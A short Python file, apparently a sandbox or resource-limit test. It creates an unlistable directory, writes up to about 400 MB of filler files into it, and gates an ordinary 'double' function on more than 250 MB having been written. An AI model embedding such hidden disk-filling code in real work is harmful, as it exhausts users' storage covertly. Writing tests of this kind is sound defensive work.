import os

import numpy as np

WRITTEN = []
os.mkdir("dark", 0o300)


def double(x):
    try:
        while len(WRITTEN) < 40:
            with open(f"dark/file{len(WRITTEN)}", "wb") as file:
                WRITTEN.append(file.write(b"x" * (10 << 20)))
    except OSError:
        pass
    return 2 * np.asarray(x) if sum(WRITTEN) > 250 << 20 else None
